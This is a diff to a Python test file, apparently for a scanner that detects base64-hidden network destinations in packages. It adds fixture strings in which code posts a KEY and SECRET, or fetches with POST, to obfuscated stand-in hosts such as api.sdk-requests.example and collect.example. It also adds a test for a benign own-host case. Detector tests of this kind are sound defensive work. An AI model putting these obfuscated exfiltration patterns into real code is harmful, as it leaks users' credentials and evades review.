@@ -188,6 +188,14 @@ ENCODED = {
         "T = '" + base64.b64encode(zlib.compress(b64(URL_BOT).encode())).decode() + "'\n"
     ),
     "JavaScript atob": f"const h = atob('{b64(URL_HOOK)}');\n",
+    "a request to an address hidden in base64": (
+        "import base64, requests\ndata = {'ak': KEY, 'secret': SECRET}\n"
+        f"requests.post(url=base64.b64decode('{b64('https://api.sdk-requests.example/x')}')"
+        ".decode('utf-8'), json=data)\n"
+    ),
+    "JavaScript fetch of an atob address": (
+        f"const r = await fetch(atob('{b64('https://collect.example/c')}'), {{method: 'POST'}});\n"
+    ),
 }
 
 
@@ -231,6 +239,16 @@ ENCODED_ORDINARY = {
         "ID = '3f2b8c1e-4d5a-4e6f-9a7b-8c9d0e1f2a3b'\nCLASS = 'HTTPAdapter2Config'\n",
     ),
 }
+
+
+def test_a_request_to_the_packages_own_host_hidden_in_base64_is_not_a_hidden_destination(
+) -> None:
+    files = {
+        "pkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: pkg\nHome-page: https://pkg.example.org\n",
+        "pkg-1.0/pkg/client.py": "import base64, requests\nrequests.get(base64.b64decode("
+                                 f"'{b64('https://api.pkg.example.org/v1/ping')}').decode())\n",
+    }
+    assert SignalKind.ENCODED_DESTINATION not in kinds(files)
 
 
 @pytest.mark.parametrize(("path", "body"), ENCODED_ORDINARY.values(), ids=ENCODED_ORDINARY.keys())
